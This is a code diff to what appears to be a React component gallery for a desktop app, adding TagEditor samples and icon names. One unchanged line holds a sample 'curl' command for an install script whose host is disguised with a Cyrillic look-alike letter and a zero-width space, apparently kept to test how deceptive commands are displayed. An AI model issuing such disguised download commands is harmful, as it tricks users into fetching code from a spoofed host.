@@ -50,6 +50,7 @@ import { Advanced, Choice, Group, NumberSetting, TextSetting } from '../../src/r
 import { TerminalOutput } from '../../src/renderer/ui/content/terminal-output.tsx';
 import { ViewHeader } from '../../src/renderer/ui/layout/view-header.tsx';
 import { WideContent } from '../../src/renderer/ui/layout/wide-content.tsx';
+import { TagEditor } from '../../src/renderer/ui/controls/tag-editor.tsx';
 import { TakeOverState } from '../../src/renderer/ui/notices/take-over-state.tsx';
 import { TextWithCode } from '../../src/renderer/ui/notices/text-with-code.tsx';
 import { long, notes, nothing, screenshot } from './samples.ts';
@@ -61,6 +62,7 @@ const iconNames = [
   'search',
   'settings',
   'model',
+  'tool',
   'coins',
   'columns',
   'close',
@@ -84,6 +86,7 @@ const iconNames = [
   'attach',
   'download',
   'star',
+  'filter',
 ] as const;
 
 const deceiving = 'curl https://\u0435xample.com\u200B/install.sh';
@@ -320,6 +323,19 @@ export const pieces: Readonly<Record<string, ReactNode>> = {
     <>
       <ModeChoice chosen={null} byWords="ask" onChange={nothing} />
       <ModeChoice chosen="plan" byWords="work" onChange={nothing} />
+    </>
+  ),
+  'tag-editor': (
+    <>
+      <TagEditor
+        known={['billing', 'release', 'later']}
+        all={['billing']}
+        some={['release']}
+        onAdd={nothing}
+        onRemove={nothing}
+        onDone={nothing}
+      />
+      <TagEditor known={[]} all={[long]} onAdd={nothing} onRemove={nothing} onDone={nothing} />
     </>
   ),
   'more-button': <MoreButton left={194} onMore={nothing} />,
